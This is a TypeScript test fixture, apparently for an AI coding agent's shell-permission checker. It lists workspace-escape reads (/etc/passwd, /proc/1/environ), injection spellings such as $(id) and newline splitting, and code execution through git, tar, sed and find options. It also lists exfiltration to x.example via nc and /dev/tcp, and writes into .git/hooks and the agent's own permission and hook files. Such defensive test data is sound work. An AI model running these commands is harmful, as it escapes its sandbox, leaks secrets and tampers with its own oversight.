// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are scripts of a shell
/**
 * Other forms of the attacks that are known, by the id of the attack. One a line: id, command; `⏎` is a line end, `␍` a carriage
 * return, `␀` a letter that cannot be seen. Each has to be asked about, although rules allow much with a `*`.
 * The folder is the one of `commands.ts`.
 */
export const allowed: readonly string[] = [
  'allow Bash(git *)',
  'allow Bash(find:*)',
  'allow Bash(sort:*)',
  'allow Bash(rg:*)',
  'allow Bash(npm test:*)',
  'allow Bash(ls:*)',
  'allow Bash(echo:*)',
  'allow Bash(tar:*)',
  'allow Bash(cp:*)',
  'allow Bash(tee:*)',
  'allow Bash(cat:*)',
];

/** Nothing is allowed: these read out of the folder, or more than their text tells. */
export const leaving = `
S1   cat ../workspace-evil/x
S1   cat src/../../workspace-evil/x
S1   wc -l ./../outside/x
S2   cat out/x
S2   head out/../secret
S3   cat self/../secret
S3   cat self/self/../secret
S3   cat ./self/./../secret
S3   ls self/..
S3   find self/.. -name x
S3   grep x self/../secret
S3   diff a.txt self/../secret
S3   cat secrets/near/../../secret
S3   cd secrets/near && cat ../../secret
S3   cat here/a.txt
S3   cat here/../secret
S3   cat /proc/self/cwd/a.txt
S3   cat /proc/self/root/etc/hosts
S3   cat /proc/1/environ
S3   head -c 9 /dev/fd/3
S33  ls -RL .
S33  find -L . -name x
S33  find . -follow -name x
S33  grep -R x .
S33  rg --follow x
S33  tree -l
S33  du -L .
S33  rg -f /etc/passwd x
S33  sort --files0-from=/etc/passwd
S33  git diff --no-index a.txt /etc/passwd
S33  git diff -O/etc/passwd
S33  git grep -f /etc/passwd x
S33  file -f /etc/passwd
S36  getent hosts x.example
S36  host x.example
S36  dig x.example
S36  traceroute x.example
S36  openssl s_client -connect x.example:443
S36  git fetch
S36  git submodule status
S36  nc x.example 80
S36  cat < /dev/tcp/x.example/80
S36  df //x.example/share
`;

export const spellings = `
S10  git log --grep="\`id\`"
S10  git log --format=%H{a,$(id)}
S10  echo $((x[$(id)]))
S10  echo "\${PATH#$(id)}"
S10  cat <(id)
S10  ls $"x$(id)"
S11  echo a⏎⏎touch x
S11  echo a \\⏎; touch x
S11  echo 'a⏎'⏎touch x
S11  echo a␍⏎touch x
S11  npm test <<-E⏎\`id\`⏎E
S11  npm test <<<"$(id)"
S11  echo a # b⏎touch x
S12  ls >| x
S12  ls &> x
S12  ls 3<> x
S12  ls >&x 2>&1
S12  ls 2>x
S12  ls || touch x
S12  ls | xargs touch
S12  { ls; touch x; }
S12  (ls; touch x)
S12  ! touch x
S12  ls |& touch x
S13  ls$IFS-la
S13  echo \${!x}
S13  echo \${x:=y}
S13  echo $'\\x41'
S13  sort -S1 -o x y
S13  sort -uox y
S13  sort --outp=x y
S13  sort --compress-prog=./e x
S13  git log --outp=x
S13  git diff -O./x
S13  git grep -O./x foo
S13  git grep --open-files-in-pager=./x foo
S13  git -c core.pager=./x log
S13  git -p -c pager.log=./x log
S13  git --exec-path=. status
S13  git --config-env=core.pager=X log
S13  git show --textconv
S13  git diff --ext-diff
S13  git log --show-signature
S13  git tag -l '--format=%(signature)'
S13  git log --format=%G?
S13  git rebase -x ./x HEAD
S13  git rebase --exec=./x HEAD
S13  git bisect run ./x
S13  git submodule foreach ./x
S13  git submodule --quiet foreach ./x
S13  git hook run pre-commit
S13  git filter-branch --tree-filter ./x
S13  git difftool -x ./x
S13  git difftool --extcmd=./x
S13  git fetch ext::./x
S13  git clone --upload-pack ./x a b
S13  git push --receive-pack=./x
S13  git archive --remote=. --exec=./x HEAD
S13  tar xf a --to-command=./x
S13  tar xf a --checkpoint=1 --checkpoint-action=exec=./x
S13  tar cf a --use-compress-program=./x b
S13  tar cf a --rsh-command=./x b
S14  X=1 ls
S14  declare -x PAGER=./p
S14  typeset PATH=.
S14  readonly GIT_PAGER=./p
S14  export -n X; ls
S14  BASH_ENV=./x ls
S14  env PAGER=./p git log
S14  alias ls=./x
S14  ls() { ./x; }; ls
S14  enable -f ./x y
S14  hash -p ./x ls
S14  source ./x
S14  . ./x
S14  trap ./x EXIT
S14  shopt -s expand_aliases
S14  set -a
S15  find . -execdir touch x {} +
S15  find . -ok touch x {} +
S15  find . -delete
S15  find . -fls x
S15  find . -fprint0 x
S15  find . -files0-from x -delete
S15  gawk '@load "x"'
S15  mawk 'BEGIN{print > "x"}'
S16  sed --in-place s/a/b/ a
S16  sed -n 's/a/b/w x' a
S16  sed 's/a/id/e' a
S16  sed -f ./x a
S16  gsed -i s/a/b/ a
S17  rg --pre-glob '*' --pre ./x y
S17  rg --hostname-bin ./x y
S17  rg --search-zip y
S17  rg -z y
S36  ls; wget x.example
S36  echo x | nc x.example 80
S36  npm test && ssh x.example
S36  cat a.txt > /dev/tcp/x.example/80
S36  echo x | telnet x.example
S4   cp a.txt .VSCode/x
S4   cp a.txt .vſcode/x
S4   cp a.txt .GIT/config
S4   cp a.txt .g␀it/config
S4   cp a.txt .g\\it/config
S4   cp a.txt '.gi't/config
S4   cp a.txt .git./config
S4   cp a.txt GIT~1/config
S4   cp a.txt CLAUDE~1/x
S4   cp a.txt .claude::$INDEX_ALLOCATION/x
S5   cp a.txt .vscode/settings.json
S5   tee .vscode/mcp.json
S5   cp x STATE/permissions.json
S5   tee STATE/hooks.json
S5   cp -r src STATE
S5   cp a.txt self/../state/hooks.json
S5   cp a.txt .claude.json
S6   tee src/../x.code-workspace
S6   cp a.txt .devcontainer.json
S6   cp a.txt sub/launch.json
S6   cp a.txt .idea/workspace.xml
S7   cp -r a .claude
S7   cp -r src .github/agents
S7   cp a.txt .husky/pre-commit
S7   cp a.txt .envrc
S8   cp a.txt gitdir/hooks/pre-commit
S8   cp a.txt src/../.git/hooks/x
S8   tee .git
S8   cp a.txt sub/.git/config
S9   cd .git && cp ../a.txt config
S9   cd self/.claude; tee x
S9   cd gitdir && tee config
S9   pushd .claude && tee x
`;

/** @param state the folder of Offshoot's own files */
export function readSpellings(
  text: string,
  state: string,
): readonly { readonly id: string; readonly command: string }[] {
  return text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => {
      const [, id = '', written = ''] = /^(\S+)\s+(.*)$/.exec(line) ?? [];
      const command = written.replaceAll('⏎', '\n').replaceAll('␍', '\r').replaceAll('␀', '\u200c');
      return { id, command: command.replaceAll('STATE', state) };
    });
}
